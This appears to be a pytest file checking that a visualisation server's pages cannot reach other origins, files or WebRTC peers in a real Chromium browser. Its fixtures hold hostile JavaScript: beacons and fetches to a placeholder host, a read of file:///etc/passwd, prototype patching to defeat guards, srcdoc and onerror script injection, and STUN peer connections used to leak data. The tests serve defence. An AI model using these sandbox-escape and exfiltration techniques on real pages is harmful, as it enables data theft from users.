"""A visualiser's page reaches nothing but its own server, whatever its script tries; in a real browser."""

from __future__ import annotations

import base64
import hashlib
import html
import http.server
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from browser_tools import Tab, chromium, tab

from cl._current import devices
from cl.visualisation.relay.bundle import custom_page
from cl.visualisation.server import application
from cl.visualisation.server.custom_visualiser import CustomVisualiser
from cl.visualisation.server.inline_scripts import script_hashes

# What stays on the page; at 0.3 s what leads away from it, and at 0.8 s a sign that all was tried.
ATTACK = """
  const element = (tag, more) => document.head.append(Object.assign(document.createElement(tag), more));
  fetch("ELSE/fetch", { mode: "no-cors" }).catch(() => 0);
  fetch("file:///etc/passwd").then((answer) => answer.text()).then((text) => { window.readFile = text; }, () => 0);
  navigator.sendBeacon("ELSE/beacon", "x");
  new Image().src = "ELSE/image";
  import("ELSE/module").catch(() => 0);
  element("script", { src: "ELSE/script" });
  element("link", { rel: "stylesheet", href: "ELSE/style" });
  element("link", { rel: "prefetch", href: "ELSE/prefetch" });
  element("script", { type: "speculationrules", textContent: '{"prefetch": [{"source": "list", "urls": ["ELSE/rules"]}]}' });
  element("iframe", { src: "ELSE/frame" });
  new Worker(URL.createObjectURL(new Blob(['fetch("ELSE/worker", { mode: "no-cors" })'])));
  setTimeout(() => {
    if ("PROTECTED") {
      location = "ELSE/location";
      Event.prototype.preventDefault = () => {};
      String.prototype.startsWith = () => true;
      Reflect.apply = () => true;
      location = "ELSE/patched";
      const link = Object.assign(document.createElement("a"), { href: "ELSE/link" });
      document.body.append(link);
      link.click();
      open("ELSE/window");
      element("meta", { httpEquiv: "refresh", content: "0;url=ELSE/meta" });
      location = 'javascript:"<script>location = `ELSE/string`</" + "script>"';
    }
    location = URL.createObjectURL(new Blob(['<script>location = "ELSE/blob"</' + "script>"], { type: "text/html" }));
  }, 300);
  setTimeout(() => { document.title = "all was tried"; }, 800);
"""  # noqa: E501
NAVIGATES = {"/location", "/patched", "/link", "/window", "/meta", "/string"}
WORKS = {"/fetch", "/image", "/script", "/style", "/rules", "/frame", "/worker", "/blob"}
"""What the attack reaches where nothing holds it back."""


@contextmanager
def listening(page: str = "") -> Iterator[tuple[str, set[str]]]:
    """Serve a page on another origin; give its URL and the paths that were asked for."""
    asked: set[str] = set()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.add(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.replace("ELSE", url).encode() if self.path == "/page" else b"")

        do_POST = do_GET

        def log_message(self, *more: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        url = f"http://localhost:{server.server_address[1]}"
        server.daemon_threads = False
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield url, asked
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


@pytest.fixture(autouse=True)
def _pages(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("CL_SDK_VISUALISATION", "1")
    yield
    if devices.page is not None:
        devices.page.stop()


def test_a_visualisers_page_reaches_no_other_origin_and_no_file(browser: Any, tmp_path: Path) -> None:
    free = f"<!doctype html><body><script>{ATTACK.replace('PROTECTED', '')}</script>"
    with listening(free) as (url, asked):
        with tab(browser, f"{url}/page") as one:
            one.page.wait_for_url(f"{url}/blob")
            assert asked >= WORKS and not asked & NAVIGATES
        asked.clear()
        attack = ATTACK.replace("ELSE", url)
        (tmp_path / "vis.mjs").write_text(
            f"const dataStreams = [];\n{attack}\nfunction createVisualiser() {{}}"
        )
        # Also while the page is made, before its own script runs.
        (tmp_path / "vis.html").write_text(
            f'<b onclick="this.textContent = 1">0</b><script>var ran = 1; location = "{url}/early";</script>'
            f'<script type="speculationrules">{{"prefetch": [{{"urls": ["{url}/own"]}}]}}</script>'
        )
        page = application.serve(tmp_path, "a")
        assert page is not None
        with tab(browser, page) as one:
            one.page.wait_for_function("() => document.title === 'all was tried'", polling=50)
            # The browser may ask late for the icon of the page that was shown before.
            assert (one.page.url, asked - {"/favicon.ico"}) == (page, set())
            assert one.page.evaluate("[ran, typeof RTCPeerConnection, window.readFile]") == [
                1,
                "undefined",
                None,
            ]
            refused = (
                "navigator.serviceWorker.register('/app/visualiser.js').then(() => 0, (error) => error.name)"
            )
            assert one.page.evaluate(refused) == "SecurityError"
            one.page.click("b")  # handlers within the fragment work
            assert one.page.inner_text("b") == "1"


# A way to a peer from a window that is not the page's own.
CALL = """
  const peer = new WINDOW.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] });
  WINDOW.kept = peer;
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""
BLANK = (
    "const blank = document.createElement('iframe'); document.head.append(blank);"
    f"{CALL.replace('WINDOW', 'blank.contentWindow')}"
)
# A frame whose window cannot be looked into may have a document with a script in it.
ATTEMPTS = """
  const text = `<body><img src=data:x onerror='CALL'>`;
  const whole = `<iframe SRCdoc="${text}"></iframe>`;
  const frame = document.head.appendChild(document.createElement("iframe"));
  const element = document.body.appendChild(document.createElement("p"));
  const attribute = Object.assign(document.createAttribute("srcdoc"), { value: text });
  const attempts = {
    property: () => (frame.srcdoc = text),
    attribute: () => frame.attributes.setNamedItem(attribute),
    inner: () => (element.innerHTML = whole),
    unsafe: () => element.setHTMLUnsafe(whole),
    fragment: () => document.createRange().createContextualFragment(whole),
    parser: () => new DOMParser().parseFromString(whole, "text/html"),
    inert: () => (document.implementation.createHTMLDocument("").body.innerHTML = whole),
    patched: () => {
      RegExp.prototype.exec = () => null;
      String.prototype.includes = () => false;
      element.outerHTML = whole;
    },
  };
  window.refused = Object.keys(attempts).filter((name) => {
    try { attempts[name](); } catch { return true; }
  });
""".replace("CALL", CALL.replace("WINDOW", "window"))
SPEAKING = """
  function createVisualiser(id, div) {
    div.innerHTML = "<i>it went on</i>";
    div.firstChild.setAttribute("onclick", "this.textContent = 1");
    div.firstChild.click();
  }
"""


class Peer:
    """A socket that hears what a browser sends to a peer."""

    def __init__(self, own: socket.socket) -> None:
        self._own = own
        self.port = own.getsockname()[1]

    def called(self, seconds: float) -> bool:
        """Return whether something has come, or comes in that time."""
        self._own.settimeout(seconds)
        try:
            return bool(self._own.recv(2_000))
        except TimeoutError:
            return False


@pytest.fixture
def peer() -> Iterator[Peer]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.bind(("127.0.0.1", 0))
        yield Peer(own)


def test_an_applications_page_reaches_no_peer(browser: Any, tmp_path: Path, peer: Peer) -> None:
    call = BLANK.replace("PORT", str(peer.port))
    (tmp_path / "vis.mjs").write_text(f"const dataStreams = [];{call}\nfunction createVisualiser() {{}}")
    (tmp_path / "vis.html").write_text("<p></p>")
    page = application.serve(tmp_path, "a")
    assert page is not None
    with tab(browser, "about:blank") as one:
        # The browser may well end a page that tries to.
        answer = one.page.goto(page, wait_until="commit")
        assert answer.header_value("Connection-Allowlist") == "(response-origin)"
        assert not peer.called(0.3)
    free = f"<!doctype html><head></head><script>{call}</script>"
    with listening(free) as (url, _), tab(browser, f"{url}/page") as one:
        assert peer.called(20)


def test_a_page_that_comes_through_a_kernel_reaches_no_peer(browser: Any, peer: Peer) -> None:
    made = CustomVisualiser((ATTEMPTS + SPEAKING).replace("PORT", str(peer.port)), '<p SRCDOC="x"></p>', ())
    page = custom_page(made)
    assert page.count("SRCDOC_=") == 1 and "SRCDOC=" not in page
    open_page = page.replace("require-trusted-types-for", "x-").replace("trusted-types default", "")
    with tab(browser, "about:blank") as one:
        framed = show(one, page)
        assert framed.inner_text("i") == "1"
        assert framed.evaluate("[typeof trustedTypes, refused.length]") == ["undefined", 8]
        with pytest.raises(Exception, match="cross-origin"):
            framed.evaluate(f"() => {{ {BLANK} }}")
        assert not peer.called(0.1)
        assert show(one, open_page).evaluate("refused") == []
        assert peer.called(20)


def show(one: Tab, page: str) -> Any:
    """Show a page as notebooks do; return its inner frame, once the visualiser is in it."""
    one.page.set_content(f'<iframe sandbox="allow-scripts" srcdoc="{html.escape(page)}"></iframe>')
    outer = one.page.wait_for_selector("iframe").content_frame()
    inner = outer.wait_for_selector("iframe").content_frame()
    inner.wait_for_selector("i")
    return inner


def test_the_scripts_of_a_fragment_are_found() -> None:
    def hashed(text: str) -> str:
        return f"sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}"

    fragment = (
        "<p>é</p><SCRIPT>\r\none &amp; 'two' <b></SCRIPT><script src='/x.js'>no</script>"
        "<script type='module'>three</script><script type=\"application/json\">no</script>"
        "<script type=' SpeculationRules'>no</script><!-- <script>no</script> --><script>never ended"
    )
    assert script_hashes(fragment) == [hashed("\none &amp; 'two' <b>"), hashed("three")]
    assert script_hashes("") == []
